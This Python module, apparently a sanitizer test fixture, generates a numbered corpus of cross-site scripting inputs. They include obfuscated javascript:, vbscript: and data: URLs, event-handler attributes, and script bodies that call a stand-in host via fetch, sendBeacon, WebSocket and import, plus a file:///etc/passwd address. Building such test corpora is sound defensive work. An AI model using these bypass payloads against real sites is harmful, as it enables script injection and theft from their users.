"""The texts that try to run a script in a page, or to make a browser ask somebody for something.

Those written one by one stand in the files beside this, one a line, a file a family; here are those
that follow from a rule. In a file `@run` is the call that must never be made, `@n` the number of
the text and `@host` a host that nobody may ask; `⏎⇥␌␀` are what they show, `⟦2028⟧` is the
character of that number.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from itertools import chain, cycle
from pathlib import Path

# Whoever asks for anything below this domain was led there by one of these texts.
SPY = "spy.example"
_SHOWN = str.maketrans({"⏎": "\n", "⇥": "\t", "␌": "\f", "␀": "\0"})
_NUMBER = re.compile(r"@n\b")
_BY_NUMBER = re.compile(r"⟦([0-9a-f]+)⟧")

_EVENTS = """
    abort animationend animationstart auxclick beforecopy beforeinput beforetoggle blur cancel
    canplay change click close contextmenu copy cut dblclick drag dragend dragenter dragover
    dragstart drop error focus focusin focusout formdata gotpointercapture input invalid keydown
    keypress keyup load loadstart message mousedown mouseenter mouseleave mousemove mouseout
    mouseover mouseup mousewheel paste pointercancel pointerdown pointerenter pointermove
    pointerover pointerup reset resize scroll scrollend search securitypolicyviolation select
    selectionchange selectstart slotchange submit toggle touchstart transitionend unload wheel
""".split()
# How an attribute can be written; each event takes the next of them.
_HANDLERS = (
    '<b on{}="@run">press</b>',
    "<i on{}='@run'>press</i>",
    "<u on{}=@run>press</u>",
    "<s/on{}=@run>press</s>",
    '<p\non{}\n=\n"@run"\n>press</p>',
    '<em title="a"on{}="@run">press</em>',
    "<h2 on{}=&#112;wned(@n)>press</h2>",
    "<li oN{}=@run>press</li>",
    '"><a on{}="@run">press</a>',
    "'><table on{}='@run'><tr><td>press</table>",
)
# How an address can be written whose scheme is a script.
_SPELLINGS = (
    "javascript:@run",
    "JAVASCRIPT:@run",
    "jAvAsCrIpT:@run",
    " javascript:@run",
    "\x01javascript:@run",
    "\x1f\x20javascript:@run",
    "java\tscript:@run",
    "java\nscript:@run",
    "java\rscript:@run",
    "\njavascript:@run",
    "javascript\t:@run",
    "javascript:\n@run",
    "java&Tab;script:@run",
    "java&NewLine;script:@run",
    "java&#9;script:@run",
    "java&#x0A;script:@run",
    "java&#000010;script:@run",
    "&#1;javascript:@run",
    "javascript&colon;@run",
    "javascript&#58;@run",
    "javascript&#x3A;@run",
    "javascript&#0058@run",
    "&#106avascript:@run",
    "&#x6Aavascript:@run",
    "java\0script:@run",
    "java\xadscript:@run",
    "javascript://x.example/%0a@run",
    "javascript:/*--></title></style>*/@run",
    "javascript:void(@run)",
    "javascript:'<b>'+@run",
    "javascript:javascript:@run",
    "view-source:javascript:@run",
    "jar:javascript:@run",
    "feed:javascript:@run",
    "vbscript:pwned(@n)",
    "livescript:@run",
    "mocha:@run",
    "data:text/html,<script>@run</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-@run",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@run'/>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@run</x:script>",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml' onclick='@run'/>",
    "data:,@run",
    "DATA:TEXT/HTML,<svg onload=@run>",
    "blob:https://@host/00000000-0000",
    "filesystem:https://@host/temporary/x",
    "file:///etc/passwd",
    "about:blank#@run",
    "chrome://settings",
    "intent://@host/#Intent;scheme=https;end",
    "ms-word:ofe|u|https://@host/",
    "tel:@n",
    "ws://@host/",
    "ftp://@host/",
)
# What carries an address.
_CARRIERS = (
    '<a href="{}">press</a>',
    "<a href='{}'>press</a>",
    '<svg><a xlink:href="{}"><text y=20>press</text></a></svg>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>press</button></form>',
    '<button form=f formaction="{}">press</button>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<img src="{}">',
    '<meta http-equiv=refresh content="9;url={}">',
    '<area href="{}">',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
    '<script src="{}"></script>',
    '<video src="{}" poster="{}"></video>',
)
# Code that needs no brackets, no quotes, no letters or nothing in one piece.
_CODE = (
    "pwned`@n`",
    "pwned?.(@n)",
    "window['pwned'](@n)",
    "window['pw'+'ned'](@n)",
    "top.pwned(@n)",
    "self[/pwned/.source](@n)",
    "eval('pwned(@n)')",
    "Function('pwned(@n)')()",
    "setTimeout('pwned(@n)')",
    "setTimeout(pwned,0,@n)",
    "[@n].map(pwned)",
    "onerror=()=>pwned(@n);throw 1",
    "new Image().src='https://@host/i';pwned(@n)",
    "fetch('https://@host/f');pwned(@n)",
    "navigator.sendBeacon('https://@host/b');pwned(@n)",
    "new WebSocket('wss://@host/');pwned(@n)",
    "import('https://@host/m.js');pwned(@n)",
    "alert(@n);pwned(@n)",
    "document.write('<script>pwned(@n)</'+'script>')",
    "document.body.append(Object.assign(new Image,{src:'x',onerror:()=>pwned(@n)}))",
    "\\u0070wned(@n)",
    "pwned\u2028(@n)",
    "location='javascript:pwned(@n)'",
    "location.hash='x';pwned(@n)",
    "document.cookie='a=b';pwned(@n)",
    "localStorage.x=1;pwned(@n)",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One hostile text."""

    number: int  # of the call that it tries to make, and of the host that it leads to
    family: str  # the file that it stands in, or the rule that made it
    text: str


@cache
def corpus() -> tuple[Hostile, ...]:
    """Return all texts, each once, numbered from 1."""
    texts = dict.fromkeys(chain(_written(), _made()))
    return tuple(
        Hostile(number=number, family=family, text=_filled(text, number))
        for number, (family, text) in enumerate(texts, 1)
    )


def _written() -> Iterator[tuple[str, str]]:
    for file in sorted(Path(__file__).parent.glob("*.txt")):
        for line in file.read_text("utf-8").split("\n")[:-1]:
            yield file.stem, _BY_NUMBER.sub(lambda number: chr(int(number[1], 16)), line)


def _made() -> Iterator[tuple[str, str]]:
    handlers, carriers = cycle(_HANDLERS), cycle(_CARRIERS)
    for event in _EVENTS:
        yield "handlers", next(handlers).format(event)
    for spelling in _SPELLINGS:
        yield "addresses", f'<a href="{spelling}">press</a>'
        yield "addresses", next(carriers).replace("{}", spelling)
        yield "links", f"[press]({spelling})"
    for code in _CODE:
        yield "code", f"<script>{code}</script>"
        yield "code", f'<svg onload="{code}">'


def _filled(text: str, number: int) -> str:
    shown = text.translate(_SHOWN).replace("@run", f"pwned({number})")
    return _NUMBER.sub(str(number), shown.replace("@host", f"n{number}.{SPY}"))
